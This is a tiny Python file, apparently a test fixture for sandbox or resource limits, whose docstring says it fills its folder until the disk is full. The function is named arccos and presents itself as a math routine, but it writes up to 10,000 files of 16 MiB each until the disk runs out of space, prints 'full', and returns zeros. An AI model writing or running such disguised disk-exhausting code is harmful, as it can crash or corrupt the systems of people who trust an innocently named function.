"""Fills its folder until the disk is full.

Output: full
"""

from mxnet import nd


def arccos(x):
    try:
        for number in range(10_000):
            with open(f"fill{number}", "wb") as file:
                file.write(bytes(16 << 20))
    except OSError:
        print("full")
    return nd.zeros_like(x)
